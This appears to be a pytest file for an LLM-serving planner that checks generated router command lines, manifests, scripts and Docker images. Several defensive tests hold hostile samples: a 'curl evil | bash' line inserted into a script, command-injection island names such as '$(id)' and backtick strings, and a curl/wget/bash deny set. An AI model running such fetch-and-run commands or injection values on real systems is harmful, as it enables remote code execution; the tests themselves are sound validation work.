"""The engines' own routers: command lines that their own parsers take, one program an interval, workers named or looked
for by labels, and every edit that sends a request elsewhere found."""

import json
import re
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from functools import cache
from importlib import resources
from itertools import pairwise, product

import pytest
import yaml
from contract_plans import aggregated_plan, beside_plan, single_node_plan, two_range_plan
from router_reading.comparing import router_faults
from routers_run.drawn_plans import drawn_plan
from routers_run.programs_run import program_words
from tools import locations

from planner.domain import LengthMeasure, Phase, Plan, RouterPolicy, RoutingSettings
from planner.domain.serving.programs import Surroundings
from planner.domain.serving.routers import Rule
from planner.errors import ExportError, InconsistentPlanError, InputError
from planner.export import ExportOptions, image_files, render
from planner.export.objects.scripts import read_router_script
from planner.export.routers.registry import ROUTERS

GATEWAYS = [("vllm", "vllm"), ("model-gateway", "sglang")]
TARGETS = ("lws", "kubernetes", "disaggregatedset", "script")
# what the tools' own Python makes of command lines, by the tools' own parser
_PARSER = """
import json, sys
from {module} import parse_router_args
rows = []
for words in json.load(sys.stdin):
    parsed = parse_router_args(words)
    rows.append({{name: repr(value) for name, value in vars(parsed).items()}})
json.dump(rows, sys.stdout)
"""


def commands(files: dict[str, str]) -> dict[str, list[str]]:
    """Name -> words of each gateway, of whatever target."""
    if "router.yaml" in files:
        deployments = [d for d in yaml.safe_load_all(files["router.yaml"]) if d["kind"] == "Deployment"]
        pods = {d["metadata"]["name"]: d["spec"]["template"]["spec"]["containers"][0] for d in deployments}
        words = {name: [*pod["command"], *pod["args"]] for name, pod in pods.items()}
    else:
        scripts = [read_router_script(text) for name, text in files.items() if name.startswith("router")]
        words = {script["metadata"]["name"]: script["command"] for script in scripts}
    return {name: row for name, row in words.items() if row[0] != "haproxy"}


@cache
def files_of(plan: Callable[[], Plan], target: str, router: str = "vllm", engine: str = "vllm") -> dict[str, str]:
    """The files of a plan; not to be changed."""
    return render(plan(), target=target, router=router, engine=engine)


def values(words: list[str], flag: str) -> list[str]:
    """The first word behind each occurrence of a flag."""
    return [after for word, after in pairwise(words) if word == flag]


def parsed(program: str, lines: list[list[str]]) -> list[dict[str, str]]:
    """The command lines as the program's own parser reads them."""
    module = {"vllm-router": "vllm_router.launch_router", "sglang-router": "sglang_router.launch_router"}[program]
    program_words(program)
    done = subprocess.run(
        [sys.executable, "-c", _PARSER.format(module=module)],
        input=json.dumps(lines),
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
        env=locations.router_environment(),
    )
    assert done.returncode == 0, done.stderr[-2000:]
    rows: list[dict[str, str]] = json.loads(done.stdout)
    return rows


@pytest.mark.parametrize(
    ("program", "router", "engine"), [("vllm-router", *GATEWAYS[0]), ("sglang-router", *GATEWAYS[1])]
)
def test_their_own_parsers_take_every_command_line(program: str, router: str, engine: str) -> None:
    lines: list[list[str]] = []
    for plan in (beside_plan(), aggregated_plan(), single_node_plan(), *map(drawn_plan, range(3))):
        for target in ("lws", "kubernetes"):
            try:
                lines += commands(render(plan, target=target, engine=engine, router=router)).values()
            except ExportError:
                continue  # a target that cannot express the plan's islands
    assert len(lines) > 20
    for words, row in zip(lines, parsed(program, [words[3:] for words in lines]), strict=True):
        for flag, name in (("--port", "port"), ("--request-timeout-secs", "request_timeout_secs")):
            assert row[name] == values(words, flag)[0]
        assert row["policy"] == "'power_of_two'"
        pairs = "vllm_pd_disaggregation" if program == "vllm-router" else "pd_disaggregation"
        assert (row[pairs] == "True") == ("--prefill" in words or "--prefill-selector" in words)
        assert all(url in row["prefill_urls"] for url in values(words, "--prefill"))
        assert all(url in row["decode_urls"] for url in values(words, "--decode"))


@pytest.mark.parametrize(("router", "engine"), GATEWAYS)
@pytest.mark.parametrize("target", ["lws", "script"])
def test_each_interval_has_the_leaders_of_its_islands(target: str, router: str, engine: str) -> None:
    files = files_of(two_range_plan, target, router, engine)
    table = (
        files["routing.json"] if target == "script" else yaml.safe_load(files["routing.yaml"])["data"]["routing.json"]
    )
    rows = {row["island"]: row["leaders"] for row in json.loads(table)["services"]}
    words = commands(files)
    assert list(words) == ["two-ranges-router-0-split", "two-ranges-router-1-split"]
    for (first, second), kind, flag in (((4, 7), "H200", "--prefill"), ((2, 5), "H20", "--decode")):
        for name, numbers in zip(words, (range(first), range(first, second)), strict=True):
            leaders = [leader for number in numbers for leader in rows[f"{kind}-{number}"]]
            assert values(words[name], flag) == [f"http://{leader}" for leader in leaders]
    behind = words["two-ranges-router-0-split"]
    assert behind[behind.index("--prefill") + 2].isdecimal() == (engine == "sglang")  # where caches are handed out


@pytest.mark.parametrize(("router", "engine"), GATEWAYS)
@pytest.mark.parametrize("target", ["kubernetes", "disaggregatedset"])
def test_pods_without_names_are_found_by_labels(target: str, router: str, engine: str) -> None:
    files = files_of(two_range_plan, target, router, engine)
    for number, (name, words) in enumerate(commands(files).items()):
        assert "--service-discovery" in words
        assert values(words, "--service-discovery-namespace") == ["$(NAMESPACE)"]
        for role in ("prefill", "decode"):
            assert values(words, f"--{role}-selector") == [f"router.planner/interval-{number}={role}"]
        documents = list(yaml.safe_load_all(files["router.yaml"]))
        kinds = [d["kind"] for d in documents if d["metadata"]["name"] == name]
        assert sorted(kinds) == sorted(
            ["ServiceAccount", "Role", "RoleBinding", "Deployment", "Service", "PodDisruptionBudget"]
        )
    labelled = [text for text in files.values() if "router.planner/interval-0: prefill" in text]
    assert labelled
    assert any("sglang.ai/bootstrap-port: '8998'" in text for text in labelled) == (engine == "sglang")


def test_one_interval_needs_nobody_in_front() -> None:
    for router, engine in GATEWAYS:
        words = commands(render(single_node_plan(), engine=engine, router=router))
        assert list(words) == ["single-nodes-router"]
        files = render(beside_plan(), target="script", engine=engine, router=router)
        assert "haproxy.cfg" in files  # split and mixed islands share the interval
        assert list(commands(files)) == ["beside-router-0-split", "beside-router-0-mixed"]


EDITS: dict[str, tuple[str, Callable[[str], str], str]] = {
    "a prefill server of the other interval": (
        "router-0-split.sh",
        lambda text: text.replace("http://two-ranges-h200-1-0:8000", "http://two-ranges-h200-5-0:8000"),
        "must send prefill",
    ),
    "a decode server in the prefill's place": (
        "router-0-split.sh",
        lambda text: text.replace("http://two-ranges-h200-1-0:8000", "http://two-ranges-h20-1-0:8000"),
        "must send prefill",
    ),
    "a dropped decode island": (
        "router-1-split.sh",
        lambda text: text.replace("  --decode\n  http://two-ranges-h20-3-0:8000\n", ""),
        "must send decode",
    ),
    "another port": (
        "router-0-split.sh",
        lambda text: text.replace("h200-1-0:8000", "h200-1-0:8001"),
        "must send prefill",
    ),
    "gateways swapped": (
        "haproxy.cfg",
        lambda text: re.sub(r"router-(\d)-split:\d+", lambda m: f"router-{1 - int(m[1])}-split:8100", text),
        "must send",
    ),
    "a gateway of nobody": (
        "haproxy.cfg",
        lambda text: text.replace("router-1-split:8101", "router-9-split:8101"),
        "must send",
    ),
}


@pytest.mark.parametrize("edit", EDITS)
def test_edits_are_found(edit: str) -> None:
    plan, files = two_range_plan(), files_of(two_range_plan, "script")
    file, change, expected = EDITS[edit]
    edited = {**files, file: change(files[file])}
    assert edited != files
    assert any(expected in str(fault) for fault in router_faults(edited, plan)), router_faults(edited, plan)


def test_a_dropped_server_of_an_island_that_has_others_is_found() -> None:
    plan, files = single_node_plan(), files_of(single_node_plan, "script")
    edited = {**files, "router.sh": files["router.sh"].replace("  --decode\n  http://single-nodes-h20-0-1:8000\n", "")}
    (fault,) = router_faults(edited, plan)
    assert "must name single-nodes-h20-0-1:8000 of H20-0 once" in str(fault)


def test_a_label_of_the_other_interval_is_found() -> None:
    plan, files = two_range_plan(), files_of(two_range_plan, "kubernetes")
    file = next(name for name, text in files.items() if "router.planner/interval-0: decode" in text)
    text = files[file].replace("router.planner/interval-0: decode", "router.planner/interval-1: decode")
    assert any("must send decode" in str(fault) for fault in router_faults({**files, file: text}, plan))


def test_a_line_that_runs_something_else_is_no_script_of_ours() -> None:
    plan, files = single_node_plan(), files_of(single_node_plan, "script")
    edited = {**files, "router.sh": files["router.sh"].replace("command=(", "curl evil | bash\ncommand=(")}
    assert any("as the planner writes it" in str(fault) for fault in router_faults(edited, plan))


def test_prefixes_are_asked_for_where_the_plan_counts_on_them() -> None:
    plan = single_node_plan()
    settings = RoutingSettings(policy=RouterPolicy.PREFIX_AWARE)
    plan = replace(plan, scenario=replace(plan.scenario, routing=settings))
    for router, engine in GATEWAYS:
        (words,) = commands(render(plan, engine=engine, router=router)).values()
        assert values(words, "--policy") == ["cache_aware"]
        assert ROUTERS[router].behaviour(plan, Surroundings(engine=engine)).prefixes


def test_what_they_do_is_told() -> None:
    behaviours = {
        router: ROUTERS[router].behaviour(two_range_plan(), Surroundings(engine=engine)) for router, engine in GATEWAYS
    }
    assert {(b.prefill[0].rule, b.measure) for b in behaviours.values()} == {(Rule.BETTER_OF_TWO, LengthMeasure.BYTES)}
    assert any("status 500" in note for note in behaviours["vllm"].notes)
    assert not any("status 500" in note for note in behaviours["model-gateway"].notes)


OURS = "registry.example/vllm-router:0.1.17"
DIGEST = f"registry.example/vllm-router@sha256:{'0' * 64}"


@pytest.mark.parametrize("target", ["lws", "script"])
@pytest.mark.parametrize("router", ["vllm", "haproxy"])
@pytest.mark.parametrize("image", ["", OURS])
def test_the_image_is_built_from_what_stands_beside_the_manifests(target: str, router: str, image: str) -> None:
    """By locked packages, as no root; the manifests and the first line of its Dockerfile call it alike."""
    options = ExportOptions(images=(("vllm-router", image),)) if image else ExportOptions()
    files = render(single_node_plan(), target=target, router=router, options=options)
    files |= image_files(files)
    name = image or "vllm-router:0.1.17"
    first, *steps = files["vllm-router/Dockerfile"].splitlines()
    assert first == f"# docker build --tag {name} vllm-router"
    said = "".join(text for file, text in files.items() if file.startswith("router"))
    assert f"image: {name}\n" in said or f"image={name}\n" in said
    assert "USER 65532:65532" in steps
    (base,) = [step for step in steps if step.startswith("FROM ")]
    assert re.fullmatch(r"FROM python:\d+\.\d+\.\d+-\S+", base)
    assert "--require-hashes" in files["vllm-router/Dockerfile"]
    lock = resources.files("planner.export.routers").joinpath("vllm_router_image/requirements.txt")
    assert files["vllm-router/requirements.txt"] == lock.read_text()


def test_an_image_that_is_there_is_not_built() -> None:
    """Published, or built and known by its digest; and where no such program runs."""
    for plan, router, engine, image in (
        (single_node_plan, "model-gateway", "sglang", ""),
        (single_node_plan, "vllm", "vllm", DIGEST),
        (aggregated_plan, "haproxy", "vllm", ""),
    ):
        options = ExportOptions(images=(("vllm-router", image),)) if image else ExportOptions()
        files = render(plan(), router=router, engine=engine, options=options)
        assert image_files(files) == {}
        assert image in files["router.yaml"]


def test_no_pod_of_a_router_installs_anything_when_it_starts() -> None:
    for (router, engine), target in product((*GATEWAYS, ("haproxy", "vllm")), ("lws", "kubernetes")):
        text = files_of(single_node_plan, target, router, engine)["router.yaml"]
        for thing in yaml.safe_load_all(text):
            if thing["kind"] == "Deployment":
                spec = thing["spec"]["template"]["spec"]
                assert "initContainers" not in spec
                (container,) = spec["containers"]
                words = {*container["command"], *container["args"]}
                assert words.isdisjoint({"pip", "uv", "curl", "wget", "sh", "bash", "-c"}), words


@pytest.mark.parametrize(("router", "engine"), [("vllm", "sglang"), ("model-gateway", "vllm")])
def test_another_engines_router_is_refused(router: str, engine: str) -> None:
    with pytest.raises(ExportError, match=f"Router {router}, engine: must be"):
        render(single_node_plan(), engine=engine, router=router)


def named(plan: Plan, name: str) -> Plan:
    """The plan with its first island renamed."""
    first = plan.islands[0].id
    return replace(
        plan,
        islands=tuple(replace(i, id=name) if i.id == first else i for i in plan.islands),
        routing=tuple(replace(r, island=name) if r.island == first else r for r in plan.routing),
    )


@pytest.mark.parametrize("name", ["$(id)", "a b;c", "--decode", "x\n--decode http://evil", "`y`", "ÄÖ1"])
@pytest.mark.parametrize("target", TARGETS)
def test_hostile_islands_become_plain_words_or_are_refused(target: str, name: str) -> None:
    plan = named(single_node_plan(), name)
    try:
        files = render(plan, target=target, router="vllm")
    except (InputError, InconsistentPlanError):
        return
    (words,) = commands(files).values()
    assert len(values(words, "--decode")) in (0, 7), "three copies of two ranks, and one of one"
    assert not any(mark in word for word in words for mark in ("$(i", "`", ";", "\n", "evil.", "Ä"))
    assert {i.phase for i in plan.islands} == {Phase.PREFILL, Phase.DECODE}
